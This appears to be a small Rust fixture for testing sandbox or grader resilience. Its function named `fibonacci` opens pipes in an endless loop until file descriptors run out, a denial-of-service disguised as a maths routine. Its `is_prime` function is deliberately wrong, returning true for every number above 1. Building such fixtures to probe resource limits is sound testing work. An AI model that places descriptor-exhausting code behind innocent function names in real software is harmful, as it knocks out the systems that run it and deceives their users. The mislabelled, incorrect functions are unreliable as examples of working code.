//! Pipes until there is no descriptor left.

pub fn fibonacci(_n: u32) -> u64 {
    let mut pipes = Vec::new();
    loop {
        pipes.push(std::io::pipe().unwrap());
    }
}

pub fn is_prime(n: u64) -> bool {
    n > 1
}
